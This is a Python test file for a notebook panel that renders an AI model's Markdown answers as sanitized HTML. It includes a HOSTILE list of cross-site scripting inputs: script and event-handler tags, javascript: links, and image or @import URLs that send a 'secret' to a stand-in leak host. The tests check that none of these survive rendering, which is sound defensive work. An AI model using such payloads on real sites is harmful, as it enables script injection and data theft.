"""An answer in the panel: its Markdown as formatted text, whatever the model wrote, and as written in the file."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codeact_jupyter.session.places import Place
from codeact_jupyter.views.panel_html import PanelContent, body_html, content_html, content_text

TABLE = "| city | total |\n|---|--:|\n| Köln | 3,472.10 |\n| Aarhus | 1,720.25 |"
FORMATTED = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code"} | {
    *("strong", "em", "del", "table", "thead", "tbody", "tr", "th", "td")
}
ATTRIBUTES = {("ol", "start"), ("th", "style"), ("td", "style")}
MARKUP = "*_`[]()<>!|~#-.:1 \n\t\\&\"'aé\u202e\ue000\U000f0000"
HOSTILE = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "[here](javascript:alert(1)) ![plot](http://leak.invalid/image?secret) <http://leak.invalid>",
    '![<img src=x>](x) [<b onclick=x>](y "<i>")\n\n[a]: http://leak.invalid\n[a]',
    '```"><img src=x>\n</code><script>\n```',
    '<div class="jp-CodeAct-bar">\n<button>Run</button>\n\n<style>@import url(http://leak.invalid)</style></div>',
    "`</code><svg onload=x>` **<b>** | <i> |\n|---|\n| <td style=x> |",
    "\ue000 \U000f0000 5\ue000",
]


class Elements(HTMLParser):
    """Elements and attributes of a fragment, but those of the numbers and of the box around the answer."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.open: list[str] = []
        self.feed(fragment)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "hr"):
            self.open.append(tag)
        self.found.add(tag)
        self.attributes |= {(tag, name) for name, _ in attributes}

    def handle_endtag(self, tag: str) -> None:
        assert tag in ("br", "hr") or self.open.pop() == tag


def answer(text: str, *numbers: tuple[Place, str]) -> str:
    """Return the HTML of an answer without the box around it."""
    html = body_html(PanelContent("Answered", "over", thought=text, numbers=numbers, is_answer=True))
    return html.partition(">")[2].removesuffix("</div>")


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("**Köln** sold `most`.", ["<strong>Köln</strong> sold <code>most</code>."]),
        (TABLE, ["<th>city</th>", '<td style="text-align:right">3,472.10</td>', "<td>Aarhus</td>"]),
        ("- Köln\n- Málaga\n", ["<ul>\n<li>Köln</li>\n<li>Málaga</li>\n</ul>"]),
        ("1. read\n2. summed", ["<ol>\n<li>read</li>\n<li>summed</li>\n</ol>"]),
        ("one line\nanother", ["one line<br />\nanother"]),
        ("### Result\n```python\na < b\n```", ["<h3>Result</h3>", "<pre><code>a &lt; b\n</code></pre>"]),
        ("sales_2024_total is 5 * 3 * 2, ~~6~~", ["sales_2024_total is 5 * 3 * 2, <del>6</del>"]),
        ("It is $5, not $6, of x < y & z.", ["It is $5, not $6, of x &lt; y &amp; z."]),
        ("see [the page](https://example.org)", ["see the page"]),
        ("hidden \u202e here", ["hidden ⟨U+202E⟩ here"]),
    ],
)
def test_an_answer_is_shown_as_its_markdown_says(text: str, parts: list[str]) -> None:
    html = answer(text)
    assert [part for part in parts if part not in html] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_an_answer_loads_runs_or_can_be_clicked(text: str) -> None:
    elements = Elements(answer(text))
    assert elements.found <= FORMATTED
    assert elements.attributes <= ATTRIBUTES


@given(st.text(MARKUP, max_size=120))
def test_any_text_gives_formatted_text(text: str) -> None:
    elements = Elements(answer(text))
    assert elements.found <= FORMATTED
    assert elements.attributes <= ATTRIBUTES


@pytest.mark.parametrize("unit", ["*", "[a](", "a\n", "*a _b ", "> ", "- ", "|", "`", "<", "**a", "1. "])
def test_a_long_answer_of_marks_is_rendered(unit: str) -> None:
    assert Elements(answer(unit * 12_000)).found <= FORMATTED


def test_numbers_within_markdown_tell_their_places() -> None:
    here, there = (Place("3,472.10", 2, "3472.1", 0, "Köln", "price"), "p2"), (Place("5", 3, "5"), "p3")
    none = (Place("1,720.25", 0), "")
    html = answer(f"{TABLE}\n\n**5** of `5`", here, none, there, there)
    assert re.findall(r"<(\w+)[^<]*><span class=\"codeact-number\"[^<]*>([^<]*)</span></\1>", html) == [
        ("td", "3,472.10"),
        ("strong", "5"),
        ("code", "5"),
    ]
    assert 'title="step 2, row Köln, column price"' in html


def test_the_text_in_the_file_stays_as_the_model_wrote_it() -> None:
    text = f"**Köln**\n\n{TABLE}"
    content = PanelContent("Answered", "over", thought=text, hint="Rests on `sales.price`", is_answer=True)
    assert text in content_text(content)
    assert "Rests on <code>sales.price</code>" in content_html(content)
    assert "Rests on `sales.price`" in content_text(content)
